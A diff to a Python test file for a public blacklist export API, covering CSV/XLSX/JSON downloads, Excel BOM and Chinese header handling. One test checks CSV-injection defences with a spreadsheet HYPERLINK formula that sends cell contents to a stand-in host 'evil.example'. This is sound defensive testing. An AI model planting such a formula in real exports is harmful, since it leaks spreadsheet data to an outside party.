@@ -30,6 +30,9 @@ from tests.api._blacklist import (
 LIAOHE = "盘锦辽河乳业有限公司"
 
 
+MACHINE = {"lang": "en", "bom": "false"}  # the download form for programs
+
+
 async def three(client: httpx.AsyncClient, h: dict[str, str]) -> tuple[str, str, str]:
     """A: listed and published; B: listed, never published; C: published, then removed."""
     a, b, c = code(101), code(102), code(103, region=SHENYANG)
@@ -156,7 +159,7 @@ async def test_export_full_and_delta(
 ) -> None:
     h = national.headers
     a, _, c = await three(client, h)
-    r = await client.get("/public/v1/blacklist/export", params={"format": "csv"})
+    r = await client.get("/public/v1/blacklist/export", params={"format": "csv", **MACHINE})
     assert r.status_code == 200
     assert r.headers["content-type"].startswith("text/csv")
     assert "attachment" in r.headers["content-disposition"]
@@ -168,7 +171,7 @@ async def test_export_full_and_delta(
     assert [set(e) for e in data["items"]] == [ENTRY_KEYS, REMOVAL_KEYS]
     assert data["fields"] == list(EXPORT_KEYS_ORDER)
 
-    r = await client.get("/public/v1/blacklist/export", params={"format": "xlsx"})
+    r = await client.get("/public/v1/blacklist/export", params={"format": "xlsx", "lang": "en"})
     sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
     values = list(sheet.iter_rows(values_only=True))
     assert values[0] == EXPORT_KEYS_ORDER
@@ -179,7 +182,9 @@ async def test_export_full_and_delta(
     items = (await client.get("/v1/blacklist?status=listed", headers=h)).json()["items"]
     entry = next(e for e in items if e["code"] == a)
     await step(client, h, entry["id"], "remove", {"removed_on": "2026-07-15", "reason": "error"})
-    delta = await client.get("/public/v1/blacklist/export", params={"since": "2026-07-01"})
+    delta = await client.get(
+        "/public/v1/blacklist/export", params={"since": "2026-07-01", **MACHINE}
+    )
     rows = list(csv.DictReader(io.StringIO(delta.text)))
     assert [(x["code"], x["status"], x["removed_on"]) for x in rows] == [
         (a, "removed", "2026-07-15")
@@ -187,11 +192,12 @@ async def test_export_full_and_delta(
     # Nothing since tomorrow: still a valid file with its header row.
     for fmt in ("csv", "json", "xlsx"):
         r = await client.get(
-            "/public/v1/blacklist/export", params={"since": "2026-07-16", "format": fmt}
+            "/public/v1/blacklist/export",
+            params={"since": "2026-07-16", "format": fmt, **MACHINE},
         )
         assert r.status_code == 200
         if fmt == "csv":
-            assert r.text == ",".join(EXPORT_KEYS_ORDER) + "\n"
+            assert r.text == ",".join(EXPORT_KEYS_ORDER) + "\r\n"
         elif fmt == "json":
             assert orjson.loads(r.content)["items"] == []
         else:
@@ -231,3 +237,55 @@ async def test_rate_limit(settings: Settings, clock: FixedClock) -> None:
             assert (await c.get("/public/v1/blacklist")).status_code == 200
     finally:
         await app.state.db.dispose()
+
+
+async def test_export_opens_right_in_excel_on_chinese_windows(
+    client: httpx.AsyncClient, national: Any
+) -> None:
+    a, _, c = await three(client, national.headers)
+    r = await client.get("/public/v1/blacklist/export", params={"format": "csv"})
+    assert r.content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert rows[0][:3] == ["统一社会信用代码", "企业名称", "行政区划代码"]
+    col = {title: i for i, title in enumerate(rows[0])}
+    by_code = {row[0]: row for row in rows[1:]}
+    assert by_code[a][col["状态"]] == "在列" and by_code[c][col["状态"]] == "已移出"
+    assert by_code[c][col["移出原因"]] == "错误列入更正"
+    assert "（第" in by_code[a][col["列入类别"]]
+    plain = await client.get("/public/v1/blacklist/export", params={"bom": "false"})
+    assert plain.content == r.content[3:]
+
+    r = await client.get("/public/v1/blacklist/export", params={"format": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
+    header = [cell.value for cell in sheet[1]]
+    assert header[0] == "统一社会信用代码"
+    decided = header.index("列入日期")
+    assert isinstance(sheet.cell(row=2, column=decided + 1).value, date)  # a date, not text
+    assert sheet.cell(row=2, column=decided + 1).number_format == "yyyy-mm-dd"
+    for i, title in enumerate(header, start=1):
+        width = sheet.column_dimensions[openpyxl.utils.get_column_letter(i)].width
+        assert width >= 2 * len(title), f"column {title} is narrower than its header"
+    # the English switch (the portal's cookie) gives the API's names and values
+    client.cookies.set("lang", "en")
+    try:
+        english = await client.get("/public/v1/blacklist/export", params={"bom": "false"})
+    finally:
+        client.cookies.clear()
+    assert english.text.startswith(",".join(EXPORT_KEYS_ORDER))
+
+
+async def test_exported_cells_cannot_attack_the_reader(
+    client: httpx.AsyncClient, national: Any
+) -> None:
+    """OWASP CSV injection: a name that is a formula stays text in every download."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    code_ = code(111)
+    await listed(client, national.headers, code_, "PX", name=evil)
+    for params in ({"format": "csv"}, {"format": "csv", **MACHINE}):
+        r = await client.get("/public/v1/blacklist/export", params=params)
+        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+        assert rows[1][1] == "'" + evil
+    r = await client.get("/public/v1/blacklist/export", params={"format": "xlsx"})
+    book = openpyxl.load_workbook(io.BytesIO(r.content))
+    cell = book.active.cell(row=2, column=2)
+    assert cell.value == evil and cell.data_type == "s"  # a string, never a formula
